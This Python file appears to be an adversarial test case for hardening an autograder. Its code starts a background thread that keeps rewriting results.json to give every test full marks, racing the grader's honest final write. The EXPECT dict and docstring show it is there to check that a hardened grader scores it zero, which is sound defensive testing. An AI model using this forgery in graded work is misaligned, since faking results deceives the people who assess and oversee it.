"""Forged results: a background thread keeps rewriting results.json.

Attack: a daemon thread polls the results file every 10 ms and rewrites it with full marks
whenever the recorder has written an honest version; the recorder's last write at session finish
is followed within milliseconds by the thread's forged one, before the interpreter exits.
Old grader: see BASELINE.md (expected: full marks or nearly, a race the thread usually wins).
"""
EXPECT = {"max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "end", "leaves_no_trace": []}

import json as _json
import sys as _sys
import threading as _threading
import time as _time


def _keep_forging(path):
    deadline = _time.monotonic() + 300  # damage bound
    while _time.monotonic() < deadline:
        try:
            data = _json.load(open(path))
            if any(t["score"] != t["max_score"] for t in data.get("tests", [])):
                for test in data["tests"]:
                    test["score"], test["status"], test["output"] = test["max_score"], "passed", ""
                with open(path, "w") as stream:
                    _json.dump(data, stream)
        except (OSError, ValueError, KeyError):
            pass
        _time.sleep(0.01)


if "--gradelib-results" in _sys.argv and not getattr(_sys, "_adv_thread", False):
    _sys._adv_thread = True
    _threading.Thread(
        target=_keep_forging, args=(_sys.argv[_sys.argv.index("--gradelib-results") + 1],), daemon=True
    ).start()
